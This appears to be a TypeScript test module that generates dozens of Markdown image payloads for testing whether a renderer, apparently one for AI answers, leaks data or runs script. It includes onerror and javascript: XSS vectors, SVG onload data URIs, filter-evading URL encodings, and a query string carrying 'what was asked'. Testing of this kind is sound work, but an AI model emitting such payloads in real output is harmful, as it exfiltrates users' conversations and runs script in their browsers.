import { family, type Payload } from './payload'

const { raw } = String

/** Images in Markdown. Loading an image would tell its server who reads the answer, and when. */
export function images(origin: string): Payload[] {
  return family(origin, {
    'image-http': ({ url }) => `![a cat](${url}.png)`,
    'image-https': ({ address }) => `![a cat](https://${address}.png)`,
    'image-no-scheme': ({ address }) => `![a cat](//${address}.png)`,
    'image-backslashes': ({ address }) => raw`![a cat](\\\\${address}.png)`,
    'image-mixed-slashes': ({ address }) => raw`![a cat](/\\${address}.png)`,
    'image-one-slash': ({ address }) => `![a cat](http:/${address}.png)`,
    'image-upper-scheme': ({ address }) => `![a cat](HTTP://${address})`,
    'image-angle-brackets': ({ url }) => `![a cat](<${url}?two words>)`,
    'image-secret-in-query': ({ url }) => `![](${url}?q=what+was+asked#part)`,
    'image-title': ({ url }) => `![a cat](${url} "a title")`,
    'image-title-breaks-out': ({ url, script }) => `![a cat](${url} '" onerror="${script}')`,
    'image-alt-breaks-out': ({ url, script }) => `![" onerror="${script}](${url})`,
    'image-alt-with-html': ({ url }) => `![<img src="${url}?inner">](${url})`,
    'image-alt-with-image': ({ url }) => `![outer ![inner](${url}?inner) end](${url}?outer)`,
    'image-in-link': ({ url }) => `[![a cat](${url}.png)](${url}?link)`,
    'image-in-link-of-script': ({ url, script }) => `[![a cat](${url})](<javascript:${script}>)`,
    'image-in-heading': ({ url }) => `# A title ![a cat](${url})`,
    'image-in-table': ({ url }) => `| a |\n| - |\n| ![a cat](${url}) |`,
    'image-in-list': ({ url }) => `1. one\n   - ![a cat](${url})`,
    'image-in-quote': ({ url }) => `> > ![a cat](${url})`,
    'image-in-emphasis': ({ url }) => `***![a cat](${url})***`,
    'image-data-svg': ({ script }) =>
      `![a cat](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`)})`,
    'image-data-that-fetches': ({ url }) =>
      `![a cat](<data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${url}'/%3E%3C/svg%3E>)`,
    'image-script': ({ script }) => `![a cat](<javascript:${script}>)`,
    'image-file': ({ address }) => `![a cat](file://${address})`,
    'image-share-of-windows': ({ address }) => raw`![a cat](file:\\\\\\\\${address})`,
    'image-blob': ({ url }) => `![a cat](blob:${url})`,
    'image-filesystem': ({ url }) => `![a cat](filesystem:${url}/temporary/cat.png)`,
    'image-ftp': ({ address }) => `![a cat](ftp://${address})`,
    'image-entities': ({ address }) => `![a cat](&#104;ttp&colon;&sol;&#x2f;${address})`,
    'image-percent-signs': ({ address }) => `![a cat](http:%2f%2f${address})`,
    'image-escapes': ({ address }) => raw`![a cat](http\://${address}\_)`,
    'image-wide-letters': ({ address }) => `![a cat](ｈｔｔｐ：／／${address})`,
    'image-wide-dot': () => '![a cat](http://127。0。0。1:9/image-wide-dot)',
    'image-user-information': ({ address }) => `![a cat](http://localhost@${address})`,
    'image-size': ({ url }) => `![a cat](${url} =100x100)`,
    'image-attributes': ({ url, script }) =>
      `![a cat](${url}){onerror="${script}" style="background:url(${url})"}`,
    'image-wiki': ({ url }) => `![[${url}|a cat]]`,
    'image-split-over-lines': ({ url }) => `![a\ncat](\n${url}\n"a\ntitle"\n)`,
    'image-behind-an-escape': ({ url }) => raw`\\![a cat](${url})`,
    'image-that-is-none-yet': ({ url }) => `![a cat](${url}`,
  })
}
